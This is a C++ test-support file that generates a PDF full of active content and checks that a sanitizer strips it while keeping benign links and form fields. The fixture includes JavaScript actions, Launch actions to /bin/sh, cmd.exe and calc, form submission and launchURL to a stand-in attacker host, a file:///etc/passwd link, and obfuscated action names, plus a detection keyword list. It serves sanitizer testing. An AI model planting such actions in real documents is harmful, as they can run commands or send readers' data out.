#include "testing/ActiveContentFile.h"

#include <stdexcept>

#include "testing/PdfBuilder.h"
#include "testing/Scratch.h"
#include "testing/Tools.h"

namespace testing_support {

namespace {

std::string Page(int parent, int contents, const std::string& extra) {
    return "<< /Type /Page /Parent " + std::to_string(parent) +
           " 0 R /MediaBox [0 0 612 792] /Contents " + std::to_string(contents) +
           " 0 R /Resources << /Font << /F1 6 0 R >> >> " + extra + " >>";
}

std::string Link(int y, const std::string& action) {
    return "<< /Type /Annot /Subtype /Link /Rect [72 " + std::to_string(y) + " 300 " +
           std::to_string(y + 20) + "] /Border [0 0 1] /A " + action + " >>";
}

}  // namespace

void WriteActiveContentPdf(const std::string& path, bool objectStreams) {
    PdfBuilder pdf;
    pdf.Object(1,
               "<< /Type /Catalog /Lang (en stream\n) /Pages 2 0 R /OpenAction 10 0 R /Names 11 0 R"
               " /AA << /WC << /S /JavaScript /JS (app.alert\\(1\\)) >> >>"
               " /AcroForm << /Fields [20 0 R] /DA (/F1 12 Tf 0 g) /XFA 40 0 R >> >>");
    pdf.Object(2, "<< /Type /Pages /Kids [3 0 R 5 0 R] /Count 2 >>");
    pdf.Object(3, Page(2, 4,
                       "/Annots [21 0 R 22 0 R 23 0 R 24 0 R 27 0 R 28 0 R 31 0 R 32 0 R 20 0 R"
                       " 33 0 R 34 0 R 35 0 R 37 0 R 38 0 R 39 0 R 41 0 R]"
                       " /AA << /O << /S /JavaScript /JS (app.beep\\(0\\)) >> /C 25 0 R >>"));
    pdf.Stream(4, "", "BT /F1 36 Tf 72 700 Td (Page one) Tj ET 0 0 1 rg 72 100 200 200 re f");
    pdf.Object(5, Page(2, 7, ""));
    pdf.Object(6, "<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>");
    pdf.Stream(7, "", "BT /F1 36 Tf 72 700 Td (Page two) Tj ET 1 0 0 rg 300 300 100 100 re f");
    pdf.Object(10, "<< /S /JavaScript /JS (this.print\\(\\)) /Next << /S /Launch /F (calc) >> >>");
    pdf.Object(11, "<< /JavaScript 12 0 R /Dests 13 0 R >>");
    pdf.Object(12, "<< /Names [(hello) 14 0 R] >>");
    pdf.Object(13, "<< /Names [(second) [5 0 R /Fit]] >>");
    pdf.Object(14, "<< /S /JavaScript /JS 15 0 R >>");
    pdf.Stream(15, "", "app.launchURL('http://attacker.invalid/')");
    pdf.Object(20,
               "<< /Type /Annot /Subtype /Widget /FT /Tx /T (name) /V (Filled) /F 4"
               " /Rect [72 400 300 430] /P 3 0 R /DA (/F1 12 Tf 0 g)"
               " /AA << /K << /S /JavaScript /JS (AFNumber_Keystroke\\(\\)) >> /F 29 0 R >>"
               " /AP << /N 30 0 R >> >>");
    pdf.Object(21, Link(600, "<< /S /URI /URI (https://example.com/) >>"));
    pdf.Object(22, Link(570, "<< /S /GoTo /D (second) >>"));
    pdf.Object(23, Link(540, "<< /S /Launch /F (/bin/sh) /Win << /F (cmd.exe) >> >>"));
    pdf.Object(24, Link(510, "26 0 R"));
    pdf.Object(25, "<< /S /GoTo /D [5 0 R /Fit] >>");
    pdf.Object(26, "<< /Type /Action /S /JavaScript /JS (app.alert\\(2\\)) >>");
    pdf.Object(27, Link(480, "<< /S /ImportData /F (data.fdf) >>"));
    pdf.Object(28,
               Link(450, "<< /S /SubmitForm /F << /FS /URL /F (http://attacker.invalid/) >> >>"));
    pdf.Object(29, "<< /S /JavaScript /JS (AFNumber_Format\\(\\)) >>");
    pdf.Stream(
        30,
        "/Type /XObject /Subtype /Form /BBox [0 0 228 30] /Resources << /Font << /F1 6 0 R >> >>",
        "0 1 0 rg 0 0 228 30 re f BT /F1 12 Tf 0 g 2 10 Td (Filled) Tj ET");
    pdf.Object(31, Link(370, "<< /S /J#61vaScript /JS (app.alert\\(3\\)) >>"));
    pdf.Object(32, Link(340, "<< /S /GoToR /F (other.pdf) /D [0 /Fit] >>"));
    // The stream keyword hidden in a string and in a comment ahead of the action.
    pdf.Object(33,
               "<< /Type /Annot /Subtype /Link /NM (x stream\n) /Rect [72 310 300 330]"
               " /A << /S /JavaScript /JS (app.alert\\(4\\)) >> >>");
    pdf.Object(34,
               "<< /Type /Annot /Subtype /Link % stream\n/Rect [72 280 300 300]"
               " /A << /S /URI /URI (javascript:app.alert\\(5\\)) >> >>");
    pdf.Object(35, Link(250, "<< /S 36 0 R /JS (app.alert\\(6\\)) >>"));
    pdf.Object(36, "/JavaScript");
    pdf.Object(37, Link(220, "<< /S /GoToE /T << /R /C /N (x) >> >>"));
    pdf.Object(38, Link(190, "<< /S /GoToR /F (calc.exe) >>"));
    pdf.Object(39, Link(160, "<< /S /URI /URI (file:///etc/passwd) >>"));
    pdf.Stream(40, "", "<xdp:xdp><script>app.alert(7)</script></xdp:xdp>");
    pdf.Object(41, "<< /Type /Annot /Subtype /3D /Rect [72 100 200 150] /3DD 42 0 R >>");
    pdf.Stream(42, "/Type /3D /Subtype /U3D /OnInstantiate 43 0 R", "U3D");
    pdf.Stream(43, "", "app.alert(8)");
    const std::string plain = pdf.BuildWithTable("/Root 1 0 R");
    if (!objectStreams) {
        WriteWholeFile(path, plain);
        return;
    }
    WriteWholeFile(path + ".plain.pdf", plain);
    CommandResult made = Run("qpdf --object-streams=generate " + ShellQuote(path + ".plain.pdf") +
                             " " + ShellQuote(path));
    if (made.exitCode != 0) throw std::runtime_error("qpdf failed: " + made.output);
}

std::vector<std::string> ActiveContentFaults(const std::string& output) {
    std::vector<std::string> faults;
    const std::string bytes = ReadWholeFile(output);
    for (const char* key :
         {"/JS", "/JavaScript", "/Launch", "/ImportData", "/SubmitForm", "J#61vaScript", "/GoToE",
          "/XFA", "/3DD", "/OnInstantiate", "javascript:", "file:", "calc.exe"}) {
        if (bytes.find(key) != std::string::npos)
            faults.push_back(std::string("bytes hold ") + key);
    }
    // The objects a reader reaches, uncompressed, one entry a line.
    const std::string reachablePdf = output + ".qdf";
    Run("qpdf --qdf --object-streams=disable " + ShellQuote(output) + " " +
        ShellQuote(reachablePdf));
    const std::string reachable = ReadWholeFile(reachablePdf);
    for (const char* script : {"app.", "this.print", "AFNumber_", "(calc)", "cmd.exe", "/bin/sh",
                               "data.fdf", "attacker.invalid", "<script>", "U3D"}) {
        if (reachable.find(script) != std::string::npos) {
            faults.push_back(std::string("reachable objects hold ") + script);
        }
    }
    for (const char* kept :
         {"/URI (https://example.com/)", "/S /GoTo", "/D (second)", "(second)", "/S /GoToR",
          "/F (other.pdf)", "/FT /Tx", "/V (Filled)", "/AcroForm", "/AA"}) {
        if (reachable.find(kept) == std::string::npos) {
            faults.push_back(std::string("reachable objects lost ") + kept);
        }
    }
    const CommandResult fields = Run("qpdf --json --json-key=acroform " + ShellQuote(output));
    if (fields.output.find("\"fullname\": \"name\"") == std::string::npos ||
        fields.output.find("Filled") == std::string::npos) {
        faults.push_back("the form field is gone: " + fields.output);
    }
    return faults;
}

}  // namespace testing_support
